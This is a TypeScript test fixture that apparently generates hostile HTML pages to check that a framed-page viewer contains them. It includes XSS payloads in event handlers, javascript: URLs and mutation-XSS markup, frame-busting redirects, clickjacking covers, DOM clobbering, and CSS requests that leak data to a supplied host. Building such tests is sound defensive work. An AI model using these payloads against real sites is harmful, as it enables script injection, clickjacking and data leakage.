/**
 * Pages that try to escape their frame, to reach `at` (e.g. "http://127.0.0.1:8000"), to cover the surroundings, or to
 * hide what is pointed at. Each has `<p id=target>`, with text, to point at.
 */
export function hostilePages(at: string): Record<string, string> {
  const run = "parent.postMessage('ran','*');top.postMessage('ran','*');alert(1)";
  const target = "<p id=target>the target of the pointer</p>";
  return {
    scripts: `${target}<script>${run}</script><script type=module>${run}</script><script src=${at}/1></script>
      <script src="data:text/javascript,${run}"></script><svg><script>${run}</script></svg>`,
    "event handlers": `<body onload="${run}" onpageshow="${run}" onresize="${run}" onmousemove="${run}" onclick="${run}">
      <img src=x onerror="${run}"><svg onload="${run}"><animate onbegin="${run}" attributeName=x dur=1s></svg>
      <details open ontoggle="${run}"><summary>s</summary></details><input autofocus onfocus="${run}">
      <p id=target onmouseover="${run}" onmousemove="${run}" onclick="${run}" tabindex=1 onfocus="${run}">the target</p>
      <style>@keyframes k{from{left:0}}p{animation:k 1s}</style><p onanimationstart="${run}" onanimationend="${run}">x`,
    "meta refresh": `<meta http-equiv=refresh content="0;url=${at}/1"><noscript><meta http-equiv=refresh content="0;${at}/2">
      </noscript>${target}`,
    "frame busting": `<script>top.location=self.location;parent.location="${at}/1";location="${at}/2"</script>${target}
      <base target=_top href=${at}/3><a id=top href=${at}/4 target=_top style="position:fixed;inset:0;opacity:0">x</a>`,
    links: `<style>a{display:block;position:absolute;inset:0}</style>${target}<a href=${at}/1 ping=${at}/2 target=_blank>x</a>
      <a href="javascript:${run}">x</a><a href=${at}/3 download target=_parent accesskey=a>x</a>
      <map name=m><area href=${at}/4 coords=0,0,900,900></map><img usemap=#m src=x width=900 height=900>
      <svg width=900 height=900><a href="javascript:${run}"><rect width=900 height=900 /></a>
      <a xlink:href=${at}/5><animate attributeName=href values="javascript:${run}" /><text y=20>x</text></a></svg>
      <math href=${at}/6 xlink:href="javascript:${run}"><mi href="javascript:${run}">x</mi></math>`,
    forms: `${target}<form action=${at}/1 method=post target=_top><input name=a value=secret autofocus><input type=submit id=go>
      <button formaction=${at}/2 formtarget=_blank>x</button><input type=image src=${at}/3 formaction=${at}/4></form>
      <form action="javascript:${run}"><button autofocus>x</button></form><isindex action=${at}/5>
      <style>button,input{position:fixed;inset:0;width:100%;height:100%;opacity:0}</style>`,
    "SVG that animates": `${target}<svg><use href="data:image/svg+xml,<svg id=x><a href='javascript:1'></a></svg>#x" />
      <use xlink:href=${at}/1#a /><a><set attributeName=href to="javascript:${run}" /><text>x</text></a><image href=${at}/2 />
      <foreignObject><iframe src=${at}/3></iframe></foreignObject><feImage href=${at}/4 /><style>@import "${at}/5"</style></svg>`,
    "a cover": `<style>*{pointer-events:none!important;cursor:none!important}</style>${target}<div style="position:fixed;inset:-9999px;
      z-index:2147483647;background:red;width:99999px;height:99999px;pointer-events:all!important"></div>`,
    "a cover of generated content": `<style>*::before,*::after,html::before{content:"";position:fixed!important;inset:0!important;
      z-index:2147483647!important;background:lime!important;display:block!important}#target::before,#target::after{display:none!important}
      </style>${target}`,
    "everything hidden": `<html style="display:none!important"><style>html,body,*{display:none!important;visibility:hidden!important;
      opacity:0!important}head,style,script{display:none!important}html{transform:translate(9999px)!important;clip-path:inset(50%)!important;
      zoom:.01!important}#target,#target *{display:block!important;visibility:visible!important;opacity:1!important}</style>
      <body style="display:none">${target}`,
    "our layer": `<style>@layer{*{pointer-events:none!important}dh-overlay{display:none!important}}@layer a,dehusk;
      dh-overlay,:root>:last-child{display:none!important;opacity:0!important;transform:scale(0)!important;clip-path:inset(100%)!important;
      inset:auto!important;width:0!important;all:unset!important}:root>*::before{content:"x"!important;position:fixed!important;inset:0!important}
      [data-dh-heat]{box-shadow:none!important}</style>${target}`,
    "top layer": `${target}<dialog open style="position:fixed;top:200px">d</dialog>
      <div popover=auto id=pop style="display:block!important;position:fixed;inset:0">pop</div><button popovertarget=pop autofocus
      style="position:fixed;inset:0;opacity:0"></button><button commandfor=pop command=show-popover>x</button>
      <video controls autoplay src=${at}/1></video>`,
    editing: `<body contenteditable autofocus>${target}<div contenteditable=plaintext-only tabindex=1 accesskey=s>e</div>
      <input autofocus value=typed><textarea autofocus>area</textarea><select autofocus><option>one<option>two</select>`,
    "endless movement": `<style>@keyframes spin{to{transform:rotate(9999turn) scale(99)}}*{animation:spin .001s linear infinite!important;
      transition:all 9999s!important}</style>${target}<marquee>moves</marquee><blink>blinks</blink>`,
    "our own names": `${target}<img name=body id=documentElement src=x><form name=addEventListener id=parent><input name=parent></form>
      <a id=top name=top></a><div id=token data-dh-n=999 data-dh-e=9999 data-dh-heat=3 data-token=x>x</div><dh-overlay>mine</dh-overlay>
      <object id=currentScript name=currentScript></object><embed name=elementsFromPoint><iframe name=postMessage></iframe>`,
    "style sheets that make requests": `<link rel=stylesheet href=${at}/1><link rel=preload as=font href=${at}/2><style>@import "${at}/3";
      @font-face{font-family:f;src:url(${at}/4)}#target{font-family:f;background:url(${at}/5);--x:url(${at}/6)}
      #target::after{content:"leak" url(${at}/7);background:var(--x)}input[value^=s]{background:image-set("${at}/8" 1x)}
      @media screen{p{list-style:url(${at}/9)}}@namespace url(${at}/10);p{cursor:url(${at}/11),none;u\\72l:x;background:u\\72l(${at}/12)}
      </style><style></style><p style="background:URL(${at}/13);mask:-webkit-image-set(url(${at}/14) 1x)">x</p>${target}`,
    "broken markup": `${target}<table><tr><p id=x><a><a><table><form><form><svg><style><img title="</style><img src=x onerror=${run}>">
      <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">
      <noscript><p title="</noscript><img src=x onerror=${run}>"></noscript><xmp><img src=x onerror=${run}></xmp>
      <template><script>${run}</script></template><plaintext><img src=x onerror=${run}>`,
  };
}
